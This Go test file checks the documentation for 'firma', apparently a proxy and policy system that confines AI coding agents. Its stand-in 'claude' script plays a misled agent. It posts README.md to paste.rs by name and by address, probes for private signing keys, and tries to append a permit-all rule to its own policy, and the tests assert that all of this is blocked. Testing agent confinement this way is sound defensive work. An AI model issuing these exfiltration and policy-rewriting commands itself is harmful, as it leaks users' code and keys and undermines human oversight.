//go:build linux

package docs

import (
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/openfirma/firma/internal/e2e"
	"github.com/openfirma/firma/internal/fake"
	"github.com/openfirma/firma/internal/testutil"
)

// A document the test follows, and what its reader must see.
type docSpec struct {
	file string // relative to the repository root
	// installed: firma is already in /usr/local/bin, as `sudo make install` from the README
	// leaves it (the README itself installs it as written).
	installed bool
	// fakes are the hosts fake upstreams stand in for (HTTPS on 443, each on its own loopback
	// address of the machine), trusted through the machine's system CA bundle as the real ones are.
	fakes []string
	// sidecarConfig is the firma.toml the document's sidecar reads (a path in the machine; ~ is
	// the reader's home): before each start of a sidecar the test appends, once, a
	// [sidecar.upstream] section naming the fakes' addresses — what a reader's DNS does for real.
	sidecarConfig string
	// programs are extra commands for /usr/local/bin (stand-ins for the agents a guide runs).
	programs map[string]string
	// tools are the host's programs the document's commands use (make deps installs them).
	tools []string
	// checks are what the reader must see, by block.
	checks []check
}

// check is what one block must print. block identifies it by a line of its text ("…#2": the
// second block containing that line).
type check struct {
	block string
	want  []string
	then  func(t *testing.T, d *docRun, out string)
}

// docRun is one document being followed.
type docRun struct {
	spec  docSpec
	m     *machine
	fakes map[string]*fake.Upstream
}

// sourceRoot is the checkout under test.
func sourceRoot(t *testing.T) string {
	t.Helper()
	root, err := filepath.Abs("..")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(root, "go.mod")); err != nil {
		t.Fatalf("not the repository root: %s", root)
	}
	return root
}

// follow runs every `sh` block of the document in order, as its reader would, and checks what the
// spec says each must print.
func follow(t *testing.T, spec docSpec) *docRun {
	for _, tool := range spec.tools {
		testutil.RequireTool(t, tool)
	}
	d := &docRun{spec: spec, m: newMachine(t), fakes: map[string]*fake.Upstream{}}
	m := d.m
	m.cloneInto(sourceRoot(t))
	sudo, err := testutil.BuildGo("github.com/openfirma/firma/internal/e2e/cmd/sudo")
	if err != nil {
		t.Fatal(err)
	}
	m.install("sudo", sudo, true)
	if spec.installed {
		m.install("firma", e2e.Binary(t, "firma"), false)
	}
	for name, script := range spec.programs {
		m.writeFile("/usr/local/bin/"+name, []byte(script), 0o755)
	}
	d.startFakes(t)

	d.runBlocks(t, spec)
	return d
}

// runBlocks runs every `sh` block of a document in order, in the machine's reader's shell, and
// checks what the spec says each must print. A document can follow another in the same machine
// (the audit log reference checks the log the HTTPS MITM guide made): its shell starts afresh in
// the repository.
func (d *docRun) runBlocks(t *testing.T, spec docSpec) {
	m := d.m
	md, err := os.ReadFile(m.path(filepath.Join(repoDir, spec.file)))
	if err != nil {
		t.Fatal(err)
	}
	blocks, err := parseBlocks(spec.file, string(md))
	if err != nil {
		t.Fatal(err)
	}
	m.startSession(repoDir)
	seen := map[string]int{}
	used := map[int]bool{}
	ran := 0
	for _, b := range blocks {
		if !b.runs() {
			continue
		}
		ran++
		var out string
		if b.attrs["terminal"] != "" {
			if strings.Contains(b.text, "firma sidecar") {
				d.addUpstreams(t)
			}
			out = m.start(b).out.String()
		} else {
			out = m.run(b, 5*time.Minute)
		}
		for i, c := range spec.checks {
			line, nth := c.block, 1
			if k := strings.LastIndex(line, "#"); k > 0 {
				if n, err := strconv.Atoi(line[k+1:]); err == nil {
					line, nth = line[:k], n
				}
			}
			if !strings.Contains(b.text, line) {
				continue
			}
			seen[c.block]++
			if seen[c.block] != nth {
				continue
			}
			used[i] = true
			for _, w := range c.want {
				if !strings.Contains(out, w) {
					t.Errorf("%s: the guide promises %q; the output was:\n%s%s", b, w, out, m.terminalLogs())
				}
			}
			if c.then != nil {
				c.then(t, d, out)
			}
		}
		if t.Failed() {
			t.FailNow()
		}
	}
	if ran == 0 {
		t.Fatalf("%s has no sh block", spec.file)
	}
	for i, c := range spec.checks {
		if !used[i] {
			t.Errorf("%s has no block %q any more: update the test with the guide", spec.file, c.block)
		}
	}
}

// startFakes serves every fake host over HTTPS on 443 at a loopback address of the machine, with
// a certificate from a CA the machine's system bundle trusts (its /etc is an overlay).
func (d *docRun) startFakes(t *testing.T) {
	if len(d.spec.fakes) == 0 {
		return
	}
	ca, err := fake.NewCA("docs test upstream CA")
	if err != nil {
		t.Fatal(err)
	}
	// Written through the machine's /etc overlay: the host's bundle is untouched (a symbolic link
	// would lead out of the overlay, so it is refused).
	bundle := d.m.path("/etc/ssl/certs/ca-certificates.crt")
	if st, err := os.Lstat(bundle); err != nil || !st.Mode().IsRegular() {
		t.Fatalf("the machine's CA bundle is not a regular file: %v", err)
	}
	roots, err := os.ReadFile(bundle)
	if err != nil {
		t.Fatalf("the machine's CA bundle: %v", err)
	}
	if err := os.WriteFile(bundle, append(roots, ca.CertPEM...), 0); err != nil {
		t.Fatal(err)
	}
	for i, name := range d.spec.fakes {
		addr := netip.AddrPortFrom(netip.AddrFrom4([4]byte{127, 0, 7, byte(10 + i)}), 443)
		var u *fake.Upstream
		if err := d.m.netns.Do(func() (err error) {
			u, err = fake.NewHTTPS(name, addr, ca, name)
			return err
		}); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { u.Close() })
		d.fakes[name] = u
	}
}

// addUpstreams appends, once, the [sidecar.upstream] section that sends the fake hosts' names to
// the fakes: a reader's sidecar resolves the real names through DNS instead.
func (d *docRun) addUpstreams(t *testing.T) {
	if d.spec.sidecarConfig == "" || len(d.fakes) == 0 {
		return
	}
	path := d.m.path(strings.Replace(d.spec.sidecarConfig, "~", userHome, 1))
	cur, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("the sidecar's config: %v", err)
	}
	const marker = "# Added by docs/docs_test.go"
	if strings.Contains(string(cur), marker) {
		return
	}
	var names []string
	for name := range d.fakes {
		names = append(names, name)
	}
	sort.Strings(names)
	var resolve []string
	for _, name := range names {
		resolve = append(resolve, fmt.Sprintf("%q = %q", name, d.fakes[name].Addr.Addr().String()))
	}
	text := fmt.Sprintf("\n%s, not by the guide: the names the guide's hosts resolve to here are\n"+
		"# fake upstreams on this machine's loopback (which the sidecar otherwise refuses to dial).\n"+
		"[sidecar.upstream]\nresolve = { %s }\nallow_cidrs = [\"127.0.0.0/8\"]\n", marker, strings.Join(resolve, ", "))
	if err := os.WriteFile(path, append(cur, text...), 0); err != nil {
		t.Fatal(err)
	}
}

// readFile reads a file inside the machine.
func (d *docRun) readFile(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(d.m.path(p))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestGuideHTTPSMITM(t *testing.T) {
	t.Parallel()
	d := follow(t, docSpec{
		file:          "docs/guides/https-mitm.md",
		installed:     true,
		tools:         []string{"curl", "jq", "openssl", "base64", "sha256sum"},
		fakes:         []string{"api.openai.com"},
		sidecarConfig: "/tmp/firma-standalone/firma.toml",
		checks: []check{
			{block: "sudo firma audit keygen", want: []string{"-----BEGIN PUBLIC KEY-----", "wrote /tmp/firma-standalone/audit.key (0600)"}},
			{block: "sudo firma check config", want: []string{"firma.toml: ok"}},
			{block: "sudo firma sidecar -c /tmp/firma-standalone/firma.toml#2", want: []string{
				"bootstrapping CA at /tmp/firma-standalone/firma-ca", "wrote firma-ca.crt and firma-ca.key", "sidecar ready"}},
			{block: "sudo firma sidecar -c /tmp/firma-standalone/firma.toml#3", want: []string{
				"https mitm enabled for 3 hosts (0 bypass, 1 strict)"}},
			{block: "-w '%{http_code}", want: []string{"200\n", "ALLOW", "api.openai.com:443"}},
			{block: "sudo ls -l /tmp/firma-standalone/firma-ca/", want: []string{"-rw-r--r-- 1 root root", "firma-ca.crt", "-rw------- 1 root root", "firma-ca.key"}},
			{block: "sudo firma ca show", want: []string{"fingerprint: SHA256 ", "CN=Firma Sidecar CA"}},
			{block: "sudo firma run -- curl -sS https://api.openai.com/v1/models", want: []string{"hello from api.openai.com /v1/models"}},
			{block: `curl --proxy http://127.0.0.1:8080 -v https://api.openai.com/v1/models 2>&1 | grep -E "issuer:|subject:"`,
				want: []string{"subject: O=firma; CN=api.openai.com", "issuer: O=firma; OU=", "CN=Firma Sidecar CA"}},
			{block: `sudo firma run -- curl -v https://api.openai.com/v1/models 2>&1 | grep -E "issuer:"`, want: []string{"CN=Firma Sidecar CA"}},
			{block: `.envelope.transport.mode == "mitm"`, want: []string{
				`{"action_class":"model.inference.chat","resource":{"host":"api.openai.com","path":"/v1/models","provider":"openai","method":"GET","port":443},"raw_transport":"https","content":{"body_size":0}}`}},
			{block: `.envelope.transport.mode == "connect"`, want: []string{
				`{"action_class":"communication.external.send","resource":{"host":"api.openai.com:443","port":443},"raw_transport":"tls"}`}},
			{block: "--cacert /etc/ssl/certs/ca-certificates.crt https://api.openai.com/v1/models || true", want: []string{
				"unable to get local issuer certificate", "hello from api.openai.com /v1/models",
				"mitm handshake failed: the agent rejected firma's certificate (does it trust firma's CA?): ", "; CONNECT-only for this agent for 10m0s", "mitm fallback: permitted by policy"},
				then: func(t *testing.T, d *docRun, out string) {
					if logs := d.m.terms["sidecar"].out.String(); !strings.Contains(logs, "mitm_handshake_failed") || !strings.Contains(logs, "strict=false") {
						t.Errorf("the sidecar did not log mitm_handshake_failed for api.openai.com:\n%s", logs)
					}
				}},
			{block: "curl -sS --proxy http://127.0.0.1:8080 https://api.stripe.com/", want: []string{
				"alert access denied", "DENY", "api.stripe.com:443", "no policy permits"}},
		},
	})
	// One request through the CONNECT tunnel (before Step 1), three MITM requests (firma run in
	// Step 3, the explicit proxy and firma run in Step 4), one through the fallback tunnel after the
	// refused handshake (which sent nothing).
	if reqs := d.fakes["api.openai.com"].Requests(); len(reqs) != 5 {
		t.Errorf("api.openai.com saw %d requests, want 5", len(reqs))
	}
	t.Logf("sidecar:\n%s", d.m.terms["sidecar"].out.String())
	// The audit log reference checks this guide's log, with openssl alone, then tampers with it.
	d.runBlocks(t, docSpec{file: "docs/audit.md", checks: []check{
		{block: "cat > verify-audit.sh", want: []string{"OK seq 1..", ": chain and signatures verified with openssl"}},
		{block: `s//"outcome":"DENY"/`, want: []string{"FAIL seq ", ": the signature does not verify\ntampering found",
			"audit-copy.jsonl:", "bad signature", "tampering found"}},
	}})
	verify := exec.Command(e2e.Binary(t, "firma"), "audit", "verify", "--pubkey",
		d.m.path("/tmp/firma-standalone/audit.key.pub"), d.m.path("/tmp/firma-standalone/audit.jsonl"))
	if out, err := verify.CombinedOutput(); err != nil {
		t.Errorf("firma audit verify: %v\n%s", err, out)
	}
}

// claudeStandIn is what the coding-agent guide's `claude code` runs here: what a coding agent
// does (call the API), what a misled one tries (send the code to a paste site, by name and by
// address), and what the sandbox lets it see. %s is paste.rs's address.
const claudeStandIn = `#!/bin/sh
# A stand-in for Claude Code, for docs/docs_test.go.
echo "claude stand-in: $*"
if env | grep -q '^ANTHROPIC_API_KEY='; then echo "ANTHROPIC_API_KEY: PRESENT"; else echo "ANTHROPIC_API_KEY: absent"; fi
curl -sS --max-time 10 -X POST -H 'content-type: application/json' -d '{"model":"claude"}' https://api.anthropic.com/v1/messages
curl -sS --max-time 10 --data-binary @README.md https://paste.rs/ || echo "paste.rs by name: refused"
curl -sS --max-time 10 --resolve paste.rs:443:%s --data-binary @README.md https://paste.rs/ || echo "paste.rs by address: refused"
if grep -q PRIVATE .local/firma-authority.key 2>/dev/null; then echo "authority key: READABLE"; else echo "authority key: hidden"; fi
if grep -q PRIVATE .local/audit.key 2>/dev/null; then echo "audit key: READABLE"; else echo "audit key: hidden"; fi
if echo 'permit (principal, action, resource);' >> examples/policies/claude-code.cedar 2>/dev/null; then echo "policy: WRITABLE"; else echo "policy: read-only"; fi
if touch .local/issuance/x.cedar 2>/dev/null; then echo "issuance: WRITABLE"; else echo "issuance: read-only"; fi
if touch workspace-is-writable 2>/dev/null; then echo "workspace: writable"; fi
`

func TestGuideSecureACodingAgent(t *testing.T) {
	t.Parallel()
	const key = "sk-ant-..." // as the guide writes it
	var spec docSpec
	spec = docSpec{
		file:          "docs/guides/secure-a-coding-agent.md",
		installed:     true,
		tools:         []string{"curl", "jq", "uuidgen"},
		fakes:         []string{"api.anthropic.com", "paste.rs"},
		sidecarConfig: repoDir + "/.local/firma.toml",
		programs:      map[string]string{"claude": fmt.Sprintf(claudeStandIn, "127.0.7.11")},
		checks: []check{
			{block: "examples/firma-run/local/setup.sh", want: []string{"created  .local/firma.toml", "created  .local/audit.key"}},
			{block: "firma policy validate", want: []string{"ok"}},
			{block: "sudo firma check config .local/firma.toml", want: []string{".local/firma.toml: ok ([sidecar] [authority])"}},
			{block: "firma authority -c .local/firma.toml issue"},
			{block: "sudo ANTHROPIC_API_KEY=sk-ant-... firma sidecar", want: []string{
				"bootstrapping CA at " + repoDir + "/.local/firma-ca", "wrote firma-ca.crt and firma-ca.key"}},
			{block: "-- claude code", want: []string{
				"claude stand-in: code", "ANTHROPIC_API_KEY: absent", "hello from api.anthropic.com /v1/messages",
				"paste.rs by name: refused", "paste.rs by address: refused",
				"authority key: hidden", "audit key: hidden", "policy: read-only", "issuance: read-only", "workspace: writable"},
				then: func(t *testing.T, d *docRun, out string) {
					reqs := d.fakes["api.anthropic.com"].Requests()
					if len(reqs) != 1 || reqs[0].Header.Get("X-Api-Key") != key {
						t.Errorf("api.anthropic.com saw %d requests (%v); want one with the sidecar's x-api-key %q", len(reqs), reqs, key)
					}
					if n := d.fakes["paste.rs"].Conns(); n != 0 {
						t.Errorf("paste.rs got %d connections", n)
					}
					if strings.Contains(d.readFile(t, repoDir+"/examples/policies/claude-code.cedar"), "permit (principal, action, resource);") {
						t.Error("the agent rewrote the policy the authority serves")
					}
				}},
			{block: "select(.decision.outcome == \"DENY\")", want: []string{
				`{"host":"paste.rs","policies":["forbid_at_claude-code.cedar_18"],"exe":"/usr/bin/curl"}`,
				`{"host":"paste.rs:443","policies":["forbid_at_claude-code.cedar_18"],"exe":"/usr/bin/curl"}`,
				"DENY"}},
			{block: "sudo firma audit verify -c .local/firma.toml", want: []string{"OK ", "chain and signatures verified"}},
		},
	}
	d := follow(t, spec)
	var allowed bool
	for _, line := range strings.Split(d.readFile(t, repoDir+"/.local/audit.jsonl"), "\n") {
		if strings.Contains(line, `"outcome":"ALLOW"`) && strings.Contains(line, `"mode":"mitm"`) &&
			strings.Contains(line, `"path":"/v1/messages"`) && strings.Contains(line, `"agent_id":"claude-code"`) &&
			strings.Contains(line, `"token_id":"`) &&
			strings.Contains(line, `"content":{"content_type":"application/json","body_size":18}`) {
			allowed = true
		}
	}
	if !allowed {
		t.Error("no ALLOW record for POST /v1/messages by claude-code with its capability and its content, as docs/audit.md shows it")
	}
}

func TestREADME(t *testing.T) {
	t.Parallel()
	d := follow(t, docSpec{
		file:          "README.md",
		tools:         []string{"make", "curl"},
		fakes:         []string{"api.anthropic.com", "paste.rs"},
		sidecarConfig: "~/firma-try/firma.toml",
		checks: []check{
			{block: "sudo make deps", want: []string{"deps: all", "packages are installed",
				"firma demo: sidecar running", "hello from api.anthropic.com /v1/messages"}},
			{block: "sudo make install", want: []string{"installed;"}, then: func(t *testing.T, d *docRun, out string) {
				for _, f := range []string{"/usr/local/bin/firma", "/etc/systemd/system/firma-sidecar.service",
					"/etc/systemd/system/firma-authority.service", "/etc/systemd/system/firma-agents.slice"} {
					if _, err := os.Stat(d.m.path(f)); err != nil {
						t.Errorf("make install: %v", err)
					}
				}
			}},
			{block: "cd / && sudo firma check config ~/firma-try/firma.toml", want: []string{userHome + "/firma-try/firma.toml: ok"}},
			{block: "sudo firma sidecar -c ~/firma-try/firma.toml"},
			{block: "sudo firma run -- curl -sS https://api.anthropic.com/v1/models", want: []string{
				"hello from api.anthropic.com /v1/models", "paste.rs: refused",
				"ALLOW  communication.external.send  api.anthropic.com:443", "DENY",
				"ok    sidecar.programs", "ok    sidecar.listeners", "ok    sidecar.control", "ready"},
				then: func(t *testing.T, d *docRun, out string) {
					if n := d.fakes["paste.rs"].Conns(); n != 0 {
						t.Errorf("paste.rs got %d connections", n)
					}
				}},
		},
	})
	_ = d
}

func TestFleet(t *testing.T) {
	t.Parallel()
	follow(t, docSpec{
		file:      "docs/fleet.md",
		installed: true,
		tools:     []string{"curl", "rsyslogd"},
		checks: []check{
			{block: "firma authority init-tls --dir tls", want: []string{"wrote tls/ca.crt", "wrote tls/sidecars/web-2.token", "wrote tls/tokens.toml"}},
			{block: "sudo firma check config ~/fleet/web-1.toml", want: []string{"web-1-audit.key (0600)", "web-1.toml: ok"}},
			{block: "firma authority -c ~/fleet/authority.toml", want: []string{"client_certs=true", "tokens=true"}},
			{block: "sudo firma sidecar -c ~/fleet/web-1.toml"},
			{block: "/v1/bundle -o /dev/null", want: []string{"401\n200\n"}},
			{block: "sudo firma run -- curl", want: []string{"refused: no capability"}, then: func(t *testing.T, d *docRun, out string) {
				// The refusals are forwarded after they are in the file: wait (bounded) until the
				// receiver has them, so that the next block verifies a chain that includes them.
				deadline := time.Now().Add(30 * time.Second)
				for {
					logs, _ := filepath.Glob(d.m.path(userHome + "/fleet/syslog/*.log"))
					var text string
					for _, l := range logs {
						b, _ := os.ReadFile(l)
						text += string(b)
					}
					if strings.Contains(text, `"outcome":"DENY"`) && strings.Contains(text, "capability") {
						return
					}
					if time.Now().After(deadline) {
						t.Fatalf("the syslog receiver never got the DENY records:\n%s", text)
					}
					time.Sleep(50 * time.Millisecond)
				}
			}},
			{block: "firma audit verify --format syslog", want: []string{"OK ", "chain and signatures verified"}},
		},
	})
}

func TestGuidePolicies(t *testing.T) {
	t.Parallel()
	follow(t, docSpec{
		file:      "docs/guides/policies.md",
		installed: true,
		tools:     []string{"awk", "sed"},
		checks: []check{
			{block: "firma policy validate -v", want: []string{"default-forbid-exfiltration-services", "namespace Firma"}},
			{block: "firma policy validate policies mapping-rules.toml", want: []string{"ok  policies: 8 policies", "ok  mapping-rules.toml: 162 mapping rules"}},
			{block: "/tmp/typo.cedar || echo", want: []string{"typo.cedar:", "model.inference.embeddings", "refused"}},
			{block: "firma policy test -v report-bot.test.toml", want: []string{
				"a chat completion: policies [default-permit-llm-providers report-bot-openai], want [report-bot-openai]",
				"another agent gets nothing of this: outcome ALLOW, want DENY", "9 cases, 2 failed", "a case failed"}},
			{block: "firma policy test report-bot.test.toml", want: []string{"9 cases"}, then: func(t *testing.T, d *docRun, out string) {
				if strings.Contains(out, "FAIL") {
					t.Errorf("the fixed fixture still fails:\n%s", out)
				}
			}},
		},
	})
}
